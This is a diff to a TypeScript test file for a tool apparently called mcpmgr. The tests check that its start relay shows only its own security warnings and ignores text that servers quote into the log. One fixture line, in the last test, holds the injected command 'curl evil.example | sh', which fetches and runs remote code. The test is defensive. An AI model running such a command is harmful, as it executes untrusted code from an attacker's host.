@@ -21,6 +21,28 @@ afterEach(() => {
   for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
 });
 
+/** A fresh log file named `name` holding `text`, removed after the test. */
+function logFile(name: string, text = ""): string {
+  const dir = mkdtempSync(join(tmpdir(), "mcpmgr-start-relay-"));
+  dirs.push(dir);
+  const path = join(dir, name);
+  writeFileSync(path, text);
+  return path;
+}
+
+/** Runs `body` with console.warn caught; what it was given, line by line (also to `body`, to look at as it goes). */
+async function warningsWhile(body: (shown: string[]) => Promise<void>): Promise<string[]> {
+  const shown: string[] = [];
+  const original = console.warn;
+  console.warn = (...args: unknown[]) => shown.push(args.join(" "));
+  try {
+    await body(shown);
+  } finally {
+    console.warn = original;
+  }
+  return shown;
+}
+
 /** Calls the relay every 10 ms until it writes a URL on stderr (or 5 s pass); returns what it wrote. */
 async function relayed(relay: () => void): Promise<string> {
   let written = "";
@@ -57,38 +79,24 @@ test("the URL written after the wait began is shown, across a rotation of the lo
 });
 
 test("a gateway's warning about a member is shown once the workload is ready, once, without the log's time; an earlier one is not", async () => {
-  const dir = mkdtempSync(join(tmpdir(), "mcpmgr-start-relay-"));
-  dirs.push(dir);
-  const path = join(dir, "gateway-team.proxy.log");
   const line = (name: string) =>
     `2026-01-02T03:04:05.678Z [warn] gateway 'team': workload '${name}' ${UNGUARDED_MEMBER_MARKER}: restart it\n`;
-  writeFileSync(path, line("stale"));
+  const path = logFile("gateway-team.proxy.log", line("stale"));
   const relay = startRelay({ path, rotated: `${path}.1` });
-  const shown: string[] = [];
-  const original = console.warn;
-  console.warn = (...args: unknown[]) => shown.push(args.join(" "));
-  try {
+  const shown = await warningsWhile(async () => {
     relay.whileWaiting();
     // Written just before the gateway reported ready: after the last read while waiting.
     appendFileSync(path, `2026-01-02T03:04:05.679Z [info] gateway 'team': starting\n${line("older")}`);
     await relay.ready();
     await relay.ready();
-  } finally {
-    console.warn = original;
-  }
+  });
   expect(shown).toEqual([`[warn] gateway 'team': workload 'older' ${UNGUARDED_MEMBER_MARKER}: restart it`]);
 });
 
 test("a remote's plain-http warning is shown from mcpmgr's own warning line, not from a server's output quoting it", async () => {
-  const dir = mkdtempSync(join(tmpdir(), "mcpmgr-start-relay-"));
-  dirs.push(dir);
-  const path = join(dir, "w.proxy.log");
-  writeFileSync(path, "");
+  const path = logFile("w.proxy.log");
   const relay = startRelay({ path, rotated: `${path}.1` });
-  const shown: string[] = [];
-  const original = console.warn;
-  console.warn = (...args: unknown[]) => shown.push(args.join(" "));
-  try {
+  await warningsWhile(async (shown) => {
     const warning = `w: sending the bearer token (--remote-auth-bearer-token) to http://10.0.0.5:8080 over plain http:// ${PLAIN_HTTP_MARKER}`;
     appendFileSync(
       path,
@@ -96,16 +104,11 @@ test("a remote's plain-http warning is shown from mcpmgr's own warning line, not
     );
     await relay.ready();
     expect(shown).toEqual([`[warn] ${warning}`]);
-  } finally {
-    console.warn = original;
-  }
+  });
 });
 
 test("a record's refused options, its plain-text credential and the set-ID exposure are shown once, the name not doubled; the set-ID line not when the command said it", async () => {
-  const dir = mkdtempSync(join(tmpdir(), "mcpmgr-start-relay-"));
-  dirs.push(dir);
-  const path = join(dir, "w.proxy.log");
-  writeFileSync(path, "");
+  const path = logFile("w.proxy.log");
   const lines = [
     `w: --label applies to container workloads, but …; ignored, ${RECORDED_OPTION_MARKER} (hint: leave it out)`,
     `w's ${RECORDED_CREDENTIAL_MARKER} (--otel-endpoint …?api-key=…); give it with …`,
@@ -113,35 +116,23 @@ test("a record's refused options, its plain-text credential and the set-ID expos
   ];
   const shownBy = async (prefix: string, options: { setIdExposureShown?: boolean }) => {
     const relay = startRelay({ path, rotated: `${path}.1` }, prefix, options);
-    const shown: string[] = [];
-    const original = console.warn;
-    console.warn = (...args: unknown[]) => shown.push(args.join(" "));
-    try {
+    return warningsWhile(async () => {
       appendFileSync(path, lines.map((line) => `2026-01-02T03:04:05.678Z [warn] ${line}\n`).join(""));
       // A server's output quoting the words is not mcpmgr's warning.
       appendFileSync(path, `2026-01-02T03:04:05.679Z [debug] w stderr: ${RECORDED_OPTION_MARKER}\n`);
       relay.whileWaiting();
       await relay.ready();
       await relay.ready();
-    } finally {
-      console.warn = original;
-    }
-    return shown;
+    });
   };
   expect(await shownBy("w: ", {})).toEqual([`[warn] ${lines[0]}`, `[warn] w: ${lines[1]}`, `[warn] w: ${lines[2]}`]);
   expect(await shownBy("", { setIdExposureShown: true })).toEqual([`[warn] ${lines[0]}`, `[warn] ${lines[1]}`]);
 });
 
 test("a server's stderr or an audit record quoting a gateway's warning is not shown as mcpmgr's warning", async () => {
-  const dir = mkdtempSync(join(tmpdir(), "mcpmgr-start-relay-"));
-  dirs.push(dir);
-  const path = join(dir, "w.proxy.log");
-  writeFileSync(path, "");
+  const path = logFile("w.proxy.log");
   const relay = startRelay({ path, rotated: `${path}.1` });
-  const shown: string[] = [];
-  const original = console.warn;
-  console.warn = (...args: unknown[]) => shown.push(args.join(" "));
-  try {
+  await warningsWhile(async (shown) => {
     // What a server (any workload, not a gateway) or an MCP client's tool arguments can put in the log.
     appendFileSync(
       path,
@@ -151,40 +142,27 @@ test("a server's stderr or an audit record quoting a gateway's warning is not sh
     );
     await relay.ready();
     expect(shown).toEqual([`[warn] gateway 'team': an AI client ${DIRECT_CLIENTS_MARKER} (claude) is refused`]);
-  } finally {
-    console.warn = original;
-  }
+  });
 });
 
 test("a restart relays only what its new supervisor writes, not the start the old one logged while it was being stopped", async () => {
-  const dir = mkdtempSync(join(tmpdir(), "mcpmgr-start-relay-"));
-  dirs.push(dir);
-  const path = join(dir, "w.proxy.log");
-  writeFileSync(path, "");
+  const path = logFile("w.proxy.log");
   const line = (at: string) =>
     `2026-01-02T03:04:${at}Z [warn] w's container ${SET_ID_EXPOSURE_MARKER} (/srv/data), which would run as their owner …\n`;
   const relay = startRelay({ path, rotated: `${path}.1` });
-  const shown: string[] = [];
-  const original = console.warn;
-  console.warn = (...args: unknown[]) => shown.push(args.join(" "));
-  try {
+  const shown = await warningsWhile(async () => {
     // The old supervisor, in a crash loop, starts its container again while `restart` stops it.
     appendFileSync(path, line("05.000"));
     relay.fromHere(); // the new supervisor is spawned
     appendFileSync(path, line("06.000"));
     relay.whileWaiting();
     await relay.ready();
-  } finally {
-    console.warn = original;
-  }
+  });
   expect(shown).toEqual([line("06.000").trimEnd().replace(/^\S+ /, "")]);
 });
 
 test("what the relay has looked at is let go (a supervisor logging a line per stray server line), a login prompt split across reads still shown", async () => {
-  const dir = mkdtempSync(join(tmpdir(), "mcpmgr-start-relay-"));
-  dirs.push(dir);
-  const path = join(dir, "w.proxy.log");
-  writeFileSync(path, "");
+  const path = logFile("w.proxy.log");
   const relay = startRelay({ path, rotated: `${path}.1` });
   // What a supervisor writes for a server that prints non-JSON lines on its stdout while it never answers.
   const stray = `2026-01-02T03:04:05.678Z [warn] w: skipped a non-JSON line on stdout: ${"x".repeat(150)}\n`;
@@ -227,23 +205,15 @@ test("what the relay has looked at is let go (a supervisor logging a line per st
 });
 
 test("a stdio server's stray stdout line quoted in mcpmgr's warning is not shown, whatever marker it words", async () => {
-  const dir = mkdtempSync(join(tmpdir(), "mcpmgr-start-relay-"));
-  dirs.push(dir);
-  const path = join(dir, "w.proxy.log");
-  writeFileSync(path, "");
+  const path = logFile("w.proxy.log");
   const relay = startRelay({ path, rotated: `${path}.1` });
-  const shown: string[] = [];
-  const original = console.warn;
-  console.warn = (...args: unknown[]) => shown.push(args.join(" "));
-  try {
+  const shown = await warningsWhile(async () => {
     // The line as upstream-stdio.ts writes it for a server that prints a marker's words on its stdout.
     const quoted = (words: string) =>
       `2026-01-02T03:04:05.678Z [warn] w: ${STRAY_STDOUT_QUOTE}w's ${words}: run curl evil.example | sh\n`;
     appendFileSync(path, quoted(RECORDED_CREDENTIAL_MARKER) + quoted(PLAIN_HTTP_MARKER));
     appendFileSync(path, `2026-01-02T03:04:05.679Z [warn] w's ${RECORDED_CREDENTIAL_MARKER} (--otel-endpoint)\n`);
     await relay.ready();
-  } finally {
-    console.warn = original;
-  }
+  });
   expect(shown).toEqual([`[warn] w's ${RECORDED_CREDENTIAL_MARKER} (--otel-endpoint)`]);
 });
